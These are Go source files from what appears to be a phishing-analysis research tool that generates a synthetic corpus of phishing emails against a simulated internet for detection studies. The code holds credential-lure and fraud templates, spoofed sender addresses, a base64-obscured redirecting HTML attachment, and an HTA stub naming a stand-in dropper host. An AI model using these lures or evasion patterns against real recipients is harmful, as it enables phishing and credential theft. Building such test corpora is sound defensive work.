// byte-identical for any worker count, and identical whether the log is
// replayed in one pass or killed and resumed partway through. Replay
// never writes to the log; it is a pure function of the log's content.
func Replay(ctx context.Context, logPath string, a Analyzer, keyer KeyFunc, opts ...Option) (*Result, error) {
	state, err := ReadLog(logPath)
	if err != nil {
		return nil, err
	}
	s := NewService(a, keyer, nil, opts...)
	s.Start(ctx)
	if err := s.Resume(ctx, state); err != nil {
		// Drain what was admitted before surfacing the error, so workers
		// never leak.
		s.Drain()
		return nil, err
	}
	return s.Drain()
}

// WriteTraceStore persists the result as a tracestore segment: one
// verdict row per emission (cached emissions carry the stored row under
// their own ID), joined with the traces and metrics the caller's
// observer collected for the fresh analyses. The segment is canonical —
// rows land in message-ID order — so it federates with batch-run
// segments under tracestore.Open's multi-segment reads.
func (r *Result) WriteTraceStore(path string, traces []*obs.Trace, metrics []obs.Point) error {
	w, err := tracestore.Create(path)
	if err != nil {
		return err
	}
	for i := range r.Emitted {
		w.Add(r.Emitted[i].Verdict)
	}
	if err := w.Finalize(traces, metrics); err != nil {
		w.Close()
		return err
	}
	return nil
}
