package dataset

import (
	"math"
	"math/rand"
	"time"

	"crawlerbox/internal/botdetect"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/webnet"
	"crawlerbox/internal/whois"
)

// Config controls corpus generation.
type Config struct {
	// Seed drives every random choice; equal seeds give equal corpora.
	Seed int64
	// Scale shrinks the corpus proportionally (1.0 = the paper's 5,181
	// messages). Benchmarks use small scales; reports use 1.0.
	Scale float64
}

// Category is the ground-truth disposition of a generated message.
type Category int

// Ground-truth categories (mirroring the Section V breakdown).
const (
	CatNoResource Category = iota + 1
	CatError
	CatInteraction
	CatDownload
	CatActivePhish
)

// String names the category.
func (c Category) String() string {
	switch c {
	case CatNoResource:
		return "no-web-resource"
	case CatError:
		return "error-page"
	case CatInteraction:
		return "interaction-required"
	case CatDownload:
		return "file-download"
	case CatActivePhish:
		return "active-phishing"
	default:
		return "unknown"
	}
}

// Carrier is how the URL travels inside the message.
type Carrier int

// URL carriers.
const (
	CarrierTextLink Carrier = iota + 1
	CarrierHTMLLink
	CarrierQR
	CarrierFaultyQR
	CarrierPDF
	CarrierHTMLAttachment
	CarrierNone
)

// RewriteWrap identifies the gateway URL-rewrite a message's links were
// run through in transit: enterprise mail filters rewrap every outbound
// link (Microsoft Safe Links, Proofpoint URL Defense), so reported
// messages carry the wrapped form while the phishing site lives at the
// canonical URL underneath.
type RewriteWrap int

// Gateway rewrite variants.
const (
	RewriteNone RewriteWrap = iota
	RewriteSafeLinks
	RewriteURLDefense
	// RewriteDouble models a URL Defense link forwarded through a Safe
	// Links tenant: two wrapper layers around the canonical URL.
	RewriteDouble
)

// Message is one generated corpus message with its ground truth. Raw is
// populated by Generate; a streamed corpus (Stream) leaves it nil and
// Each renders it on the fly, so the MIME payloads never accumulate.
type Message struct {
	Raw       []byte
	Delivered time.Time
	Month     int // 0-9 = Jan-Oct 2024
	Category  Category
	Carrier   Carrier
	DomainIdx int // index into Corpus.Domains, -1 when none
	Spear     bool
	Brand     string
	URL       string
	Noise     bool
	// Rewrite is the gateway URL-rewrite applied to the message's links at
	// render time; URL always stays the canonical (unwrapped) form.
	Rewrite RewriteWrap
	// genIdx is the generator's per-category counter, recorded so render
	// can rebuild the exact bytes (templates index off it).
	genIdx int
	// windowRedirect distinguishes the two HTML-attachment variants.
	windowRedirect bool
}

// DomainRecord is one landing domain with its deployment metadata.
type DomainRecord struct {
	Host         string
	Spear        bool
	Brand        string
	Deceptive    bool
	Provenance   whois.Provenance
	MessageCount int
	Registered   time.Time
	CertIssued   time.Time
	AvgDelivery  time.Time
	DNSTotal30d  int
	Site         *phishkit.Site
	Cloaks       SiteCloaks
	// OTPCode is the access code for OTP-gated domains.
	OTPCode string
}

// SiteCloaks records which evasion layers a domain was configured with.
type SiteCloaks struct {
	Turnstile  bool
	ReCaptcha  bool
	Tokens     bool
	HotLoad    bool
	Console    bool
	Debugger   bool
	Devtools   bool
	HueRotate  bool
	FPGate     bool
	OTP        bool
	Math       bool
	VictimA    bool
	VictimB    bool
	FPLibrary  bool
	ExfilHB    bool
	ExfilIPAPI bool
}

// Corpus is the generated world: network, services, sites, and messages.
type Corpus struct {
	Net       *webnet.Internet
	Registry  *whois.Registry
	Turnstile *botdetect.Turnstile
	ReCaptcha *botdetect.ReCaptchaV3
	Messages  []Message
	Domains   []DomainRecord
	// BrandURLs maps the five protected brand names to their legitimate
	// login URLs (for pipeline references).
	BrandURLs map[string]string
	// Monthly counts actually generated (scaled).
	Monthly [10]int
	cfg     Config
	// streaming marks a corpus built by Stream: Messages holds only the
	// lightweight plans (Raw nil); Each renders bytes one at a time.
	streaming bool
}

var _startTime = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

// Generate builds a fully materialized corpus: every message carries its
// rendered Raw bytes. Scale defaults to 1.0 and Seed to 1. For large runs
// prefer Stream, which defers rendering to Each.
func Generate(cfg Config) (*Corpus, error) {
	c, err := newCorpus(cfg)
	if err != nil {
		return nil, err
	}
	//cblint:ignore streamsafe Generate is the sanctioned materialization site
	for i := range c.Messages {
		c.Messages[i].Raw = c.render(&c.Messages[i])
	}
	return c, nil
}

// Stream builds a corpus whose messages are *plans only*: the world
// (network, domains, victims) is fully deployed, but no MIME bytes are
// rendered. Consume it with Each, which renders one message at a time so
// peak memory stays O(1) in the corpus size. Same cfg, same bytes as
// Generate.
func Stream(cfg Config) (*Corpus, error) {
	c, err := newCorpus(cfg)
	if err != nil {
		return nil, err
	}
	c.streaming = true
	return c, nil
}

// newCorpus deploys the world and plans every message without rendering.
func newCorpus(cfg Config) (*Corpus, error) {
	if cfg.Scale <= 0 {
		cfg.Scale = 1.0
	}
	if cfg.Seed == 0 {
		cfg.Seed = 1
	}
	//cblint:ignore determinism generator is seeded from Config.Seed
	rng := rand.New(rand.NewSource(cfg.Seed))
	clock := webnet.NewClock(_startTime)
	net := webnet.NewInternet(clock)
	c := &Corpus{
		Net:       net,
		Registry:  whois.NewRegistry(),
		BrandURLs: map[string]string{},
		cfg:       cfg,
	}

	// Shared services.
	c.Turnstile = botdetect.NewTurnstile(net, "turnstile.example")
	c.ReCaptcha = botdetect.NewReCaptchaV3(net, "recaptcha.example")
	botdetect.NewBotD(net, "botd.example")
	deployEcho(net, "httpbin.example", func(req *webnet.Request) []byte { return []byte(req.ClientIP) })
	deployEcho(net, "ipapi.example", func(*webnet.Request) []byte { return []byte(`{"country":"FR","asn":"AS64500"}`) })
	deployEcho(net, "freeimages.example", func(*webnet.Request) []byte { return []byte("media") })
	deployDriveShare(net, "drive-share.example")
	deployCaptchaWall(net, "captcha-wall.example")

	// Legitimate brand sites.
	for _, b := range phishkit.StudyBrands {
		c.BrandURLs[b.Name] = phishkit.DeployBrandSite(net, b)
	}

	// Scaled disposition counts.
	counts := scaledCounts(cfg.Scale)
	c.Monthly = scaledMonthly(cfg.Scale, counts.total)

	// Landing domains.
	if err := c.generateDomains(rng, counts); err != nil {
		return nil, err
	}

	// Messages (plans; rendering is the caller's choice).
	c.planMessages(counts)
	return c, nil
}

// Each visits every message in delivery order, rendering Raw on demand for
// streamed corpora. The *Message handed to fn is only valid for the call:
// for a streamed corpus it points at a stack copy whose Raw is discarded
// afterwards, which is what keeps peak memory flat. Return false to stop.
func (c *Corpus) Each(fn func(i int, m *Message) bool) {
	//cblint:ignore streamsafe Each is the sanctioned streaming iterator
	for i := range c.Messages {
		m := &c.Messages[i]
		if m.Raw != nil {
			if !fn(i, m) {
				return
			}
			continue
		}
		tmp := *m
		tmp.Raw = c.render(&tmp)
		if !fn(i, &tmp) {
			return
		}
	}
}

// Len reports the number of messages without touching their payloads.
func (c *Corpus) Len() int { return len(c.Messages) }

// Streamed reports whether the corpus was built by Stream (plans only).
func (c *Corpus) Streamed() bool { return c.streaming }

// dispositionCounts holds all scaled quotas.
type dispositionCounts struct {
	total, noURL, errorPages, interaction, download, active int
	spearMsgs, nonTargMsgs                                  int
	spearDoms, nonTargDoms                                  int
}

func scaledCounts(scale float64) dispositionCounts {
	sc := func(n int) int {
		v := int(math.Round(float64(n) * scale))
		if n > 0 && v < 1 {
			v = 1
		}
		return v
	}
	d := dispositionCounts{
		noURL:       sc(CountNoResource),
		errorPages:  sc(CountError),
		interaction: sc(CountInteraction),
		download:    sc(CountDownload),
		active:      sc(CountActivePhish),
		spearDoms:   sc(CountSpearDomains),
		nonTargDoms: sc(CountNonTargDomains),
	}
	d.spearMsgs = sc(CountSpearMessages)
	if d.spearMsgs > d.active {
		d.spearMsgs = d.active
	}
	d.nonTargMsgs = d.active - d.spearMsgs
	if d.spearDoms > d.spearMsgs {
		d.spearDoms = d.spearMsgs
	}
	if d.nonTargDoms > d.nonTargMsgs {
		d.nonTargDoms = max(1, d.nonTargMsgs)
	}
	d.total = d.noURL + d.errorPages + d.interaction + d.download + d.active
	return d
}

func scaledMonthly(scale float64, total int) [10]int {
	var out [10]int
	assigned := 0
	for i, m := range Monthly2024 {
		out[i] = int(math.Round(float64(m) * scale))
		assigned += out[i]
	}
	// Fix rounding drift against the scaled total.
	i := 0
	for assigned < total {
		out[i%10]++
		assigned++
		i++
	}
	for assigned > total {
		if out[i%10] > 0 {
			out[i%10]--
			assigned--
		}
		i++
	}
	return out
}

// allocateCounts distributes total messages over n domains with median 1
// and a heavy tail capped at maxPer.
func allocateCounts(total, n, maxPer int) []int {
	if n <= 0 {
		return nil
	}
	out := make([]int, n)
	for i := range out {
		out[i] = 1
	}
	remaining := total - n
	if remaining <= 0 {
		// Fewer messages than domains: trim.
		for i := n - 1; i >= 0 && remaining < 0; i-- {
			out[i] = 0
			remaining++
		}
		return out
	}
	// The heaviest domain approaches the cap.
	top := min(maxPer-1, remaining)
	out[0] += top
	remaining -= top
	// Distribute the rest over the first ~45% of domains with harmonic
	// weights, preserving a median of 1.
	spread := max(1, int(float64(n)*0.45))
	for remaining > 0 {
		progress := false
		for i := 1; i <= spread && remaining > 0; i++ {
			add := max(1, spread/(i*2))
			if add > remaining {
				add = remaining
			}
			if out[i%n]+add > maxPer {
				add = maxPer - out[i%n]
			}
			if add > 0 {
				out[i%n] += add
				remaining -= add
				progress = true
			}
		}
		if !progress {
			// All candidates saturated; spill to the rest.
			for i := spread + 1; i < n && remaining > 0; i++ {
				out[i]++
				remaining--
			}
			break
		}
	}
	return out
}

// hoursDur converts fractional hours to a duration with a 2-hour floor.
func hoursDur(hours float64) time.Duration {
	if hours < 2 {
		hours = 2
	}
	return time.Duration(hours * float64(time.Hour))
}

// lognormalHours draws a lognormal with the given median (hours) and sigma.
func lognormalHours(rng *rand.Rand, median, sigma float64) time.Duration {
	v := median * math.Exp(sigma*rng.NormFloat64())
	if v < 2 {
		v = 2
	}
	return time.Duration(v * float64(time.Hour))
}

func deployEcho(net *webnet.Internet, host string, body func(*webnet.Request) []byte) {
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: body(req)}
	})
}

func deployDriveShare(net *webnet.Internet, host string) {
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
			Body: []byte(`<html><body><p>A colleague shared a document with you.</p>
<button>Open in viewer</button></body></html>`)}
	})
}

func deployCaptchaWall(net *webnet.Internet, host string) {
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
			Body: []byte(`<html><body><p>Select all images containing traffic lights to continue.</p>
<div>[captcha grid]</div></body></html>`)}
	})
}

// monthStart returns the first instant of 2024 month m (0-based).
func monthStart(m int) time.Time {
	return time.Date(2024, time.Month(m+1), 1, 0, 0, 0, 0, time.UTC)
}
