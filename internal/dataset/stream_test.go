package dataset

import (
	"bytes"
	"testing"
)

// TestStreamMatchesGenerate pins the plan/render split: a streamed corpus
// must yield exactly the bytes (and ground truth) of a materialized one for
// the same seed, in the same order.
func TestStreamMatchesGenerate(t *testing.T) {
	cfg := Config{Seed: 42, Scale: 0.1}
	full, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	streamed, err := Stream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !streamed.Streamed() || full.Streamed() {
		t.Fatal("Streamed flag wrong way around")
	}
	if streamed.Len() != full.Len() {
		t.Fatalf("lengths differ: streamed %d, generated %d", streamed.Len(), full.Len())
	}

	seen := 0
	streamed.Each(func(i int, m *Message) bool {
		want := &full.Messages[i]
		if !bytes.Equal(m.Raw, want.Raw) {
			t.Fatalf("message %d: streamed bytes differ from generated", i)
		}
		if m.Delivered != want.Delivered || m.Category != want.Category ||
			m.Carrier != want.Carrier || m.DomainIdx != want.DomainIdx ||
			m.Spear != want.Spear || m.Brand != want.Brand ||
			m.URL != want.URL || m.Noise != want.Noise {
			t.Fatalf("message %d: ground truth differs: %+v vs %+v", i, m, want)
		}
		seen++
		return true
	})
	if seen != full.Len() {
		t.Fatalf("Each visited %d of %d messages", seen, full.Len())
	}

	// The streamed corpus must not have retained any rendered payloads.
	for i := range streamed.Messages {
		if streamed.Messages[i].Raw != nil {
			t.Fatalf("message %d: Raw retained after Each on streamed corpus", i)
		}
	}
}

// TestEachEarlyStop checks the iterator honors a false return.
func TestEachEarlyStop(t *testing.T) {
	c, err := Stream(Config{Seed: 7, Scale: 0.05})
	if err != nil {
		t.Fatal(err)
	}
	visits := 0
	c.Each(func(i int, m *Message) bool {
		visits++
		return visits < 3
	})
	if visits != 3 {
		t.Fatalf("Each visited %d messages, want 3", visits)
	}
}
