package dataset

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"sort"
	"strings"
	"time"

	"crawlerbox/internal/cloak"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/mime"
	"crawlerbox/internal/pdfx"
	"crawlerbox/internal/qrcode"
	"crawlerbox/internal/urlx"
	"crawlerbox/internal/webnet"
)

var _fraudTemplates = []string{
	"This is the billing department of %s. Our records show a past-due balance " +
		"on your account. Reply urgently to arrange payment or your service will " +
		"be disconnected within 48 hours.",
	"Hello, I am reaching out regarding an unpaid invoice from last quarter. " +
		"Please confirm the wire details by replying to this message today.",
	"Your mailbox storage is almost full. Reply to this message with your " +
		"employee ID to request an upgrade before your account is suspended.",
	"We attempted to deliver a package to your office. Reply with your " +
		"availability so our courier can reschedule.",
}

var _lureTemplates = []string{
	"Your password expires today. Renew it immediately here: %s",
	"Unusual sign-in activity was detected on your account. Review now: %s",
	"You have a new encrypted message waiting. Read it here: %s",
	"Action required: your session will be terminated. Re-authenticate: %s",
	"IT notice: mandatory security update for your profile: %s",
}

// planMessages builds every corpus message *plan* with ground truth
// attached: all quota, carrier, and noise decisions are made here (mutating
// the shared quota state and performing world side effects like victim
// registration), but no MIME bytes are rendered. render turns a plan into
// its exact message bytes on demand, so the split keeps generation
// byte-identical while letting the streaming path defer the heavy payloads
// (QR rasters, PDFs, ZIP archives) to one message at a time.
func (c *Corpus) planMessages(counts dispositionCounts) {
	scale := c.cfg.Scale
	quotas := carrierQuotas{
		faultyQR:   scaleQuota(CountFaultyQR, scale),
		qr:         scaleQuota(CountQRMessages-CountFaultyQR, scale),
		pdf:        scaleQuota(CountPDFMessages, scale),
		htmlLocal:  scaleQuota(CountHTMLAttachLocal, scale),
		htmlWindow: scaleQuota(CountHTMLAttachments-CountHTMLAttachLocal, scale),
		noise:      scaleQuota(CountNoisePadded, scale),
	}

	// Active-phishing messages, grouped per domain.
	msgIdx := 0
	for di := range c.Domains {
		d := &c.Domains[di]
		for k := 0; k < d.MessageCount; k++ {
			delivered := d.AvgDelivery.Add(time.Duration(k*6-d.MessageCount*3) * time.Hour)
			if delivered.Before(_startTime) {
				delivered = _startTime.Add(time.Hour)
			}
			m := c.planActiveMessage(di, k, delivered, &quotas, msgIdx)
			c.Messages = append(c.Messages, m)
			msgIdx++
		}
	}

	// Deactivated / unreachable / mobile-cloaked messages.
	nx := int(float64(counts.errorPages) * ErrorFracNXDomain)
	unreach := int(float64(counts.errorPages) * ErrorFracUnreachable)
	mobile := counts.errorPages - nx - unreach
	c.deployErrorHosts(unreach, mobile)
	for i := 0; i < counts.errorPages; i++ {
		var url string
		switch {
		case i < nx:
			url = fmt.Sprintf("https://takendown-%03d.example/login", i)
		case i < nx+unreach:
			url = fmt.Sprintf("https://unreachable-%03d.example/login", i-nx)
		default:
			url = fmt.Sprintf("https://mobile-only-%03d.example/m", i-nx-unreach)
		}
		delivered := c.deliveredFor(i, counts.errorPages)
		c.Messages = append(c.Messages, Message{
			Delivered: delivered, Month: monthOf(delivered),
			Category: CatError, Carrier: CarrierTextLink, DomainIdx: -1, URL: url,
			genIdx: i,
		})
	}

	// Interaction-required messages.
	for i := 0; i < counts.interaction; i++ {
		host := "drive-share.example"
		if i%3 == 0 {
			host = "captcha-wall.example"
		}
		url := fmt.Sprintf("https://%s/d/%05d", host, i)
		delivered := c.deliveredFor(i, counts.interaction)
		c.Messages = append(c.Messages, Message{
			Delivered: delivered, Month: monthOf(delivered),
			Category: CatInteraction, Carrier: CarrierTextLink, DomainIdx: -1, URL: url,
			genIdx: i,
		})
	}

	// ZIP-with-HTA download messages.
	for i := 0; i < counts.download; i++ {
		delivered := c.deliveredFor(i, counts.download)
		c.Messages = append(c.Messages, Message{
			Delivered: delivered, Month: monthOf(delivered),
			Category: CatDownload, Carrier: CarrierNone, DomainIdx: -1,
			genIdx: i,
		})
	}

	// Plain fraud (no web resource) messages.
	for i := 0; i < counts.noURL; i++ {
		delivered := c.deliveredFor(i, counts.noURL)
		noise := quotas.noise > 0 && i%8 == 0
		if noise {
			quotas.noise--
		}
		c.Messages = append(c.Messages, Message{
			Delivered: delivered, Month: monthOf(delivered),
			Category: CatNoResource, Carrier: CarrierNone, DomainIdx: -1, Noise: noise,
			genIdx: i,
		})
	}

	sort.SliceStable(c.Messages, func(i, j int) bool {
		return c.Messages[i].Delivered.Before(c.Messages[j].Delivered)
	})
}

type carrierQuotas struct {
	faultyQR, qr, pdf, htmlLocal, htmlWindow, noise int
}

// planActiveMessage decides one active-phishing message for domain di:
// URL token, victim registration, noise draw, and the carrier quota
// consumption all happen here, leaving Raw for render.
func (c *Corpus) planActiveMessage(di, k int, delivered time.Time,
	q *carrierQuotas, msgIdx int) Message {
	d := &c.Domains[di]
	url := d.Site.LandingURL
	// Per-message token.
	if d.Cloaks.Tokens {
		base := strings.SplitN(d.Site.LandingURL, "?", 2)[0]
		url = fmt.Sprintf("%s?t=u%03dx%04d", base, di, k)
	}
	victim := victimFor(msgIdx)
	if d.Cloaks.VictimA || d.Cloaks.VictimB {
		d.Site.AddVictim(victim)
		url += "#" + base64.StdEncoding.EncodeToString([]byte(victim))
	}
	noise := false
	if q.noise > 0 && msgIdx%5 == 0 {
		q.noise--
		noise = true
	}

	m := Message{
		Delivered: delivered, Month: monthOf(delivered),
		Category: CatActivePhish, DomainIdx: di,
		Spear: d.Spear, Brand: d.Brand, URL: url, Noise: noise,
		genIdx: msgIdx,
	}
	switch {
	case q.faultyQR > 0 && !d.Cloaks.VictimA && !d.Cloaks.VictimB && msgIdx%4 == 1:
		q.faultyQR--
		m.Carrier = CarrierFaultyQR
	case q.qr > 0 && !d.Cloaks.VictimA && !d.Cloaks.VictimB && msgIdx%4 == 2:
		q.qr--
		m.Carrier = CarrierQR
	case q.pdf > 0 && msgIdx%4 == 3:
		q.pdf--
		m.Carrier = CarrierPDF
	case (q.htmlLocal > 0 || q.htmlWindow > 0) && !d.Spear && msgIdx%3 == 0:
		m.windowRedirect = q.htmlLocal == 0
		if m.windowRedirect {
			q.htmlWindow--
		} else {
			q.htmlLocal--
		}
		m.Carrier = CarrierHTMLAttachment
	case msgIdx%2 == 0:
		m.Carrier = CarrierHTMLLink
	default:
		m.Carrier = CarrierTextLink
	}
	// Gateway URL rewrites hit the link carriers: mail filters rewrap the
	// href/text URL in transit, while QR payloads and attachment contents
	// pass through untouched (which is exactly why those carriers evade).
	if m.Carrier == CarrierTextLink || m.Carrier == CarrierHTMLLink {
		switch msgIdx % 5 {
		case 0:
			m.Rewrite = RewriteSafeLinks
		case 2:
			m.Rewrite = RewriteURLDefense
		case 3:
			m.Rewrite = RewriteDouble
		}
	}
	return m
}

// wrapURL applies the planned gateway rewrite to a link at render time.
// The message bytes carry the wrapped form; the plan's URL stays canonical
// (the wrapper is transport dressing, not ground truth).
func wrapURL(m *Message, url string) string {
	tenant := fmt.Sprintf("nam%02d", m.genIdx%4+1)
	switch m.Rewrite {
	case RewriteSafeLinks:
		return urlx.WrapSafeLinks(tenant, url)
	case RewriteURLDefense:
		return urlx.WrapURLDefense(url)
	case RewriteDouble:
		return urlx.WrapSafeLinks(tenant, urlx.WrapURLDefense(url))
	default:
		return url
	}
}

// render rebuilds a message's MIME bytes from its plan. It is a pure
// function of the plan fields and the immutable domain records — no quota
// state, no world mutation — so Generate (materialize everything) and the
// streaming Each path (render one at a time) produce identical bytes.
func (c *Corpus) render(m *Message) []byte {
	switch m.Category {
	case CatActivePhish:
		return c.renderActive(m)
	case CatError:
		text := fmt.Sprintf(_lureTemplates[m.genIdx%len(_lureTemplates)], m.URL)
		return c.buildEmail(m.Delivered, "Security alert", text, nil)
	case CatInteraction:
		return c.buildEmail(m.Delivered, "Document shared with you",
			fmt.Sprintf("A document was shared with you: %s", m.URL), nil)
	case CatDownload:
		hta := fmt.Sprintf(`<script language="JScript">var u = "https://dropper-%d.evil/stage2.js";</script>`, m.genIdx)
		zipBytes := buildZipArchive(map[string]string{"document.hta": hta})
		return mime.NewBuilder(c.senderFor(m.genIdx), "employee@corp.example",
			"Shipment documents", m.Delivered).
			Text("Please review the attached shipment documents.").
			Attach("application/zip", "documents.zip", zipBytes).
			Build()
	default: // CatNoResource
		text := _fraudTemplates[m.genIdx%len(_fraudTemplates)]
		if strings.Contains(text, "%s") {
			text = fmt.Sprintf(text, "a partner company")
		}
		if m.Noise {
			text += cloak.NoisePadding(m.genIdx, 40, 60)
		}
		return c.buildEmail(m.Delivered, "Outstanding balance", text, nil)
	}
}

// renderActive rebuilds one active-phishing message from its plan.
func (c *Corpus) renderActive(m *Message) []byte {
	d := &c.Domains[m.DomainIdx]
	url := wrapURL(m, m.URL)
	suffix := ""
	if d.Cloaks.OTP {
		suffix += "\nYour access code " + d.OTPCode + " expires in 15 minutes."
	}
	if m.Noise {
		suffix += cloak.NoisePadding(m.genIdx, 40, 80)
	}
	text := fmt.Sprintf(_lureTemplates[m.genIdx%len(_lureTemplates)], url) + suffix

	builder := mime.NewBuilder(c.senderFor(m.genIdx), victimFor(m.genIdx),
		subjectFor(d, m.genIdx), m.Delivered)
	switch m.Carrier {
	case CarrierFaultyQR:
		img := mustQR("xxx " + url)
		builder.Text("Scan the attached code to view your secure message."+suffix).
			Inline("image/x-cbi", "qr.cbi", imaging.EncodeCBI(img))
	case CarrierQR:
		img := mustQR(url)
		builder.Text("Scan the attached code with your phone to re-enroll in MFA."+suffix).
			Inline("image/x-cbi", "qr.cbi", imaging.EncodeCBI(img))
	case CarrierPDF:
		pdf := pdfx.Build(&pdfx.Document{Pages: []pdfx.Page{{
			TextLines: []string{"Please review the attached notice.", "Open the secure portal below."},
			LinkURIs:  []string{url},
		}}}, true)
		builder.Text("See the attached document."+suffix).
			Attach("application/pdf", "notice.pdf", pdf)
	case CarrierHTMLAttachment:
		att := makeHTMLAttachment(url, m.windowRedirect)
		builder.Text("Open the attached contract to review."+suffix).
			Attach("text/html", "contract.html", []byte(att))
	case CarrierHTMLLink:
		builder.HTML(fmt.Sprintf(
			`<html><body><p>%s</p><a href="%s">Open portal</a></body></html>`,
			strings.SplitN(text, "\n", 2)[0], url)).Text(text)
	default:
		builder.Text(text)
	}
	return builder.Build()
}

// victimFor returns the recipient mailbox of the idx-th active message.
func victimFor(idx int) string {
	return fmt.Sprintf("user%d@corp.example", idx%500)
}

func makeHTMLAttachment(url string, windowRedirect bool) string {
	b64 := base64.StdEncoding.EncodeToString([]byte(url))
	action := `document.body.setInnerHTML('<iframe src="' + target + '"></iframe>');`
	if windowRedirect {
		action = `location.href = target;`
	}
	return fmt.Sprintf(`<html><body style="background:url(https://freeimages.example/bg.png)">
<img src="https://freeimages.example/banner.png" alt="preview">
<script>
var target = atob(%q);
%s
</script></body></html>`, b64, action)
}

func mustQR(payload string) *imaging.Image {
	m, err := qrcode.Encode(payload, qrcode.ECMedium)
	if err != nil {
		panic("dataset: QR encode: " + err.Error())
	}
	img, err := qrcode.Render(m, 4, 4)
	if err != nil {
		panic("dataset: QR render: " + err.Error())
	}
	return img
}

func subjectFor(d *DomainRecord, idx int) string {
	subjects := []string{
		"Action required: password expiry",
		"Security alert on your account",
		"New secure message",
		"Mandatory re-authentication",
		"Updated travel policy document",
	}
	if d.Spear {
		return "[" + d.Brand + "] " + subjects[idx%len(subjects)]
	}
	return subjects[idx%len(subjects)]
}

func (c *Corpus) senderFor(i int) string {
	senders := []string{
		"no-reply@notices-mail.ru", "support@secure-dispatch.com",
		"admin@it-helpdesk.net", "billing@account-services.org",
	}
	return senders[i%len(senders)]
}

// buildEmail renders a basic text message.
func (c *Corpus) buildEmail(delivered time.Time, subject, text string, _ []string) []byte {
	return mime.NewBuilder(c.senderFor(int(delivered.Unix())%7), "employee@corp.example",
		subject, delivered).Text(text).Build()
}

// deliveredFor spreads the i-th of n messages across the ten months
// proportionally to the monthly plan.
func (c *Corpus) deliveredFor(i, n int) time.Time {
	total := 0
	for _, m := range c.Monthly {
		total += m
	}
	if total == 0 || n == 0 {
		return _startTime.Add(time.Duration(i) * time.Hour)
	}
	target := i * total / n
	cum := 0
	for month, m := range c.Monthly {
		cum += m
		if target < cum {
			offset := time.Duration((i*37)%(27*24)) * time.Hour
			return monthStart(month).Add(offset)
		}
	}
	return monthStart(9).Add(time.Duration(i%600) * time.Hour)
}

func monthOf(t time.Time) int {
	return int(t.Month()) - 1
}

// deployErrorHosts sets up the unreachable and mobile-only hosts that the
// error-category messages point at.
func (c *Corpus) deployErrorHosts(unreach, mobile int) {
	for i := 0; i < unreach; i++ {
		host := fmt.Sprintf("unreachable-%03d.example", i)
		c.Net.AddDNS(host, c.Net.AllocateIP(webnet.IPDatacenter))
		// No Serve: resolves but nothing answers.
	}
	for i := 0; i < mobile; i++ {
		host := fmt.Sprintf("mobile-only-%03d.example", i)
		ip := c.Net.AllocateIP(webnet.IPDatacenter)
		c.Net.AddDNS(host, ip)
		handler := cloak.Chain(func(*webnet.Request) *webnet.Response {
			return &webnet.Response{Status: 200,
				Body: []byte(`<html><body><form><input type="password"></form></body></html>`)}
		}, cloak.UserAgentFilter("iPhone", "Android"))
		c.Net.Serve(host, handler)
	}
}

func buildZipArchive(files map[string]string) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	names := make([]string, 0, len(files))
	for name := range files {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		w, err := zw.Create(name)
		if err != nil {
			continue
		}
		_, _ = w.Write([]byte(files[name]))
	}
	_ = zw.Close()
	return b.Bytes()
}
