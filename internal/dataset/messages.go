package dataset

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"math/rand"
	"sort"
	"strings"
	"time"

	"crawlerbox/internal/cloak"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/mime"
	"crawlerbox/internal/pdfx"
	"crawlerbox/internal/qrcode"
	"crawlerbox/internal/webnet"
)

var _fraudTemplates = []string{
	"This is the billing department of %s. Our records show a past-due balance " +
		"on your account. Reply urgently to arrange payment or your service will " +
		"be disconnected within 48 hours.",
	"Hello, I am reaching out regarding an unpaid invoice from last quarter. " +
		"Please confirm the wire details by replying to this message today.",
	"Your mailbox storage is almost full. Reply to this message with your " +
		"employee ID to request an upgrade before your account is suspended.",
	"We attempted to deliver a package to your office. Reply with your " +
		"availability so our courier can reschedule.",
}

var _lureTemplates = []string{
	"Your password expires today. Renew it immediately here: %s",
	"Unusual sign-in activity was detected on your account. Review now: %s",
	"You have a new encrypted message waiting. Read it here: %s",
	"Action required: your session will be terminated. Re-authenticate: %s",
	"IT notice: mandatory security update for your profile: %s",
}

// generateMessages builds every corpus message with ground truth attached.
func (c *Corpus) generateMessages(rng *rand.Rand, counts dispositionCounts) {
	scale := c.cfg.Scale
	quotas := carrierQuotas{
		faultyQR:   scaleQuota(CountFaultyQR, scale),
		qr:         scaleQuota(CountQRMessages-CountFaultyQR, scale),
		pdf:        scaleQuota(CountPDFMessages, scale),
		htmlLocal:  scaleQuota(CountHTMLAttachLocal, scale),
		htmlWindow: scaleQuota(CountHTMLAttachments-CountHTMLAttachLocal, scale),
		noise:      scaleQuota(CountNoisePadded, scale),
	}

	// Active-phishing messages, grouped per domain.
	msgIdx := 0
	for di := range c.Domains {
		d := &c.Domains[di]
		for k := 0; k < d.MessageCount; k++ {
			delivered := d.AvgDelivery.Add(time.Duration(k*6-d.MessageCount*3) * time.Hour)
			if delivered.Before(_startTime) {
				delivered = _startTime.Add(time.Hour)
			}
			m := c.buildActiveMessage(rng, di, k, delivered, &quotas, msgIdx)
			c.Messages = append(c.Messages, m)
			msgIdx++
		}
	}

	// Deactivated / unreachable / mobile-cloaked messages.
	nx := int(float64(counts.errorPages) * ErrorFracNXDomain)
	unreach := int(float64(counts.errorPages) * ErrorFracUnreachable)
	mobile := counts.errorPages - nx - unreach
	c.deployErrorHosts(unreach, mobile)
	for i := 0; i < counts.errorPages; i++ {
